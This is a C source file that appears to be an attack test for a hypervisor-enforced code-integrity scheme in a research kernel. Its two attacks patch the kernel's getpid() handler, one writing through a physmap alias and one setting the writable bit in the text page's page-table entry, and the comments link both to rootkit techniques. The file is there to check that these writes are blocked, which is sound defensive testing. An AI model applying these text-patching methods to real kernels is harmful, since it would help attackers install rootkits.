/*
 * Kernel text patching (docs/attacks.md, family 7): rewrite a system-call handler in the kernel's text
 * so that getpid() returns an attacker value, either through a second, writable mapping of the text page
 * (the physmap alias) or after making the text page itself writable in VTL0's page tables.
 *
 * VTL0's own page tables map kernel text read-only (and CR0.WP makes the kernel honour that); the
 * attacker owns those page tables.  HVCI is what is left: VTL1 maps the signed text R+X and never W in
 * the second-stage tables, for every alias.
 */
#include "vbs/user/ulib.h"

/* inject.c */
u64 uk_pml4(void);
u64 uk_pte(u64 pml4, u64 va, int *level);

#define PATCH_MAGIC 0x7a7c4ed0u /* what the patched getpid() returns */

/* The handler of SYS_GETPID (its address is in the system-call table) and the patched first 8 bytes:
 * mov $PATCH_MAGIC,%eax; ret, then the original bytes 6 and 7. */
static u64 find_getpid(u64 *orig, u64 *patched)
{
    u64 table = kread(ksym("syscall_table"));
    if (!table)
        attack_error("missing symbols");
    u64 fn = kread(table + SYS_GETPID * 8);
    *orig = kread(fn);
    u8 b[8];
    memcpy(b, orig, 8);
    b[0] = 0xb8;
    memcpy(b + 1, &(u32){PATCH_MAGIC}, 4);
    b[5] = 0xc3;
    memcpy(patched, b, 8);
    return fn;
}

static NORETURN void judge(u64 fn, u64 orig, u64 patched, const char *how)
{
    u64 now = kread(fn);
    long pid = usys(SYS_GETPID, 0, 0, 0);
    if (now == patched && (u64)pid == PATCH_MAGIC)
        attack_succeeded("kernel text of sys_getpid at 0x%lx rewritten %s (0x%lx -> 0x%lx); getpid() now returns 0x%lx",
                         fn, how, orig, now, (u64)pid);
    attack_blocked("text at 0x%lx is 0x%lx, getpid() = 0x%lx", fn, now, (u64)pid);
}

/*
 * text-alias: write kernel text through its alias in the physmap (PHYSMAP_BASE + pa: all RAM, RW in
 * VTL0's page tables), as exploits do with the Linux direct map when text is read-only (e.g. the
 * "write to RO kernel memory via the direct map" step of kernel rootkits; LKDTM WRITE_RO).
 */
static int attack_text_alias(const char *args)
{
    (void)args;
    u64 orig, patched, fn = find_getpid(&orig, &patched);
    long pid0 = usys(SYS_GETPID, 0, 0, 0);
    u64 alias = PHYSMAP_BASE + fn; /* the kernel is identity mapped: pa == va */
    u_printf("  attack: uid %ld, getpid() = %ld; sys_getpid at 0x%lx: 0x%lx; writing 0x%lx through alias 0x%lx\n",
             u_getuid(), pid0, fn, orig, patched, alias);
    kwrite(alias, patched); /* with HVCI: GpaIntercept (write) on the text page: #GP, we are killed */
    judge(fn, orig, patched, "through the physmap alias");
}
UATTACK("text-alias", attack_text_alias);

/*
 * text-pte: make the text page itself writable: set the W bit in its VTL0 page-table entry (the
 * attacker's "set_memory_rw()" on kernel text, as rootkits do to hook system calls), then write it.
 */
static int attack_text_pte(const char *args)
{
    (void)args;
    u64 orig, patched, fn = find_getpid(&orig, &patched);
    int level;
    u64 slot = uk_pte(uk_pml4(), fn, &level);
    if (!slot)
        attack_error("sys_getpid 0x%lx not mapped?", fn);
    u64 e = kread(slot);
    u_printf("  attack: uid %ld; sys_getpid at 0x%lx: PTE at 0x%lx (level %d) 0x%lx -> 0x%lx (W set)\n", u_getuid(),
             fn, slot, level, e, (u64)(e | PTE_W));
    kwrite(slot, e | PTE_W);
    kwrite(fn, patched); /* with HVCI: GpaIntercept (write) on the text page: #GP, we are killed */
    judge(fn, orig, patched, "after setting W in its page-table entry");
}
UATTACK("text-pte", attack_text_pte);
